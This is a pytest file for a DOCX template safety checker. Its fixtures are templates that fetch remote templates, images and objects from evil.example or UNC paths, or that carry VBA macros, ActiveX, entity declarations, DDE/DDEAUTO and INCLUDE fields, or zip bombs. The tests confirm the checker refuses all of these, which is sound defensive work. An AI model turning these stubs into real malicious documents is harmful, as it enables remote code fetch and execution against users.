"""A house template that could fetch or run something is refused by name, and so is one that unpacks without end."""

from __future__ import annotations

import io
import zipfile

import pytest

from seminar_exporters import ExportError
from seminar_exporters.formats.docx.template import default_template
from seminar_exporters.formats.docx.template_safety import check_safety

RELS = "word/_rels/document.xml.rels"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def template(**parts: bytes | str) -> bytes:
    """Return the template of this library with other parts in it; a slash in a name is written as two lines."""
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(default_template())) as given, zipfile.ZipFile(stream, "w", 8) as archive:
        names = {key.replace("__", "/"): part for key, part in parts.items()}
        for name in given.namelist():
            if name not in names:
                archive.writestr(name, given.read(name))
        for name, part in names.items():
            archive.writestr(name, part)
    return stream.getvalue()


def field(*runs: str) -> dict[str, str]:
    """Return a header with a field whose instructions stand in some runs."""
    inside = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    begin, middle, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end"))
    return {"word/header9.xml": f"<w:hdr {W}><w:p>{begin}{inside}{middle}<w:r/>{end}</w:p></w:hdr>"}


def leading(kind: str, target: str, mode: str = "External") -> dict[str, str]:
    """Return relationships of which one leads out of the document."""
    one = f'<Relationship Id="r9" Type="{TYPES}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    relationships = "http://schemas.openxmlformats.org/package/2006/relationships"
    return {"word/_rels/settings.xml.rels": f'<Relationships xmlns="{relationships}">{one}</Relationships>'}


REFUSED: dict[str, tuple[dict[str, bytes | str], str]] = {
    "remote template": (leading("attachedTemplate", "https://evil.example/x.dotm"), "fetches its attachedTemplate"),
    "remote picture": (leading("image", "https://evil.example/x.png"), "fetches its image from 'https://evil"),
    "remote object": (leading("oleObject", "file:///x"), "fetches its oleObject"),
    "remote frame": (leading("frame", "\\\\evil\\x"), "fetches its frame"),
    "macros": ({"word/vbaProject.bin": b"x"}, "holds 'word/vbaProject.bin', which can run"),
    "control": ({"word/activeX/activeX1.xml": b"<x/>"}, "holds 'word/activeX/activeX1.xml'"),
    "object": ({"word/embeddings/x.xlsx": b"x"}, "holds 'word/embeddings/x.xlsx'"),
    "entities": (
        {"word/header9.xml": b'<!DOCTYPE x [<!ENTITY a "b">]><x/>'},
        "declares entities in 'word/header9.xml'",
    ),
    "broken": ({"word/header9.xml": f"<w:p {W}><w:instrText>".encode()}, "is no document that Word wrote"),
    "simple field": (
        {"word/header9.xml": f'<w:hdr {W}><w:p><w:fldSimple w:instr=" IncludePicture x "/></w:p></w:hdr>'},
        "has the field INCLUDEPICTURE in 'word/header9.xml'",
    ),
    "field in runs": (field("DDE", "AUTO c:\\\\x"), "has the field DDEAUTO"),
    "field alone": (
        {"word/header9.xml": f"<w:hdr {W}><w:p><w:r><w:instrText>LINK x</w:instrText></w:r></w:p></w:hdr>"},
        "has the field LINK",
    ),
    "field without an end": (
        {"word/header9.xml": f'<w:hdr {W}><w:fldChar w:fldCharType="begin"/><w:instrText>RD x</w:instrText></w:hdr>'},
        "has the field RD",
    ),
    "bomb": ({"word/media/x.png": b"\0" * 30_000_000}, "unpacks to far more than a template, at 'word/media/x.png'"),
    "many parts": ({f"word/media/{number}": b"" for number in range(2001)}, "parts: save it again from a new document"),
    **{
        name: (field(f" {name.lower()} x "), f"has the field {name}")
        for name in ("DDE", "INCLUDETEXT", "IMPORT", "MACROBUTTON", "DATABASE", "EMBED", "INCLUDE", "CONTROL")
    },
}


@pytest.mark.parametrize("case", REFUSED)
def test_what_fetches_or_runs_is_refused(case: str) -> None:
    """With what it is, where it stands, and what to do."""
    parts, told = REFUSED[case]
    with pytest.raises(ExportError) as caught:
        check_safety(template(**parts), "house.docx")
    assert str(caught.value).startswith("the template 'house.docx' ")
    assert told in str(caught.value)


@pytest.mark.parametrize(
    "parts",
    [
        {},
        field(" PAGE "),
        field("DATE \\\\@ ", "d.M.yyyy"),
        field(""),
        leading("hyperlink", "https://a.example/"),
        leading("image", "media/x.png", "Internal"),
        {"word/header9.xml": f'<w:hdr {W}><w:fldChar w:fldCharType="end"/><w:fldSimple/></w:hdr>'},
    ],
)
def test_what_templates_have_is_taken(parts: dict[str, bytes | str]) -> None:
    """Numbers of pages, dates, links that a reader follows."""
    check_safety(template(**parts), "house.docx")


def test_no_archive_is_no_template() -> None:
    """Whatever its name."""
    with pytest.raises(ExportError, match=r"is no document that Word wrote: save it again as \.docx"):
        check_safety(b"PK\x03\x04 nothing", "house.docx")
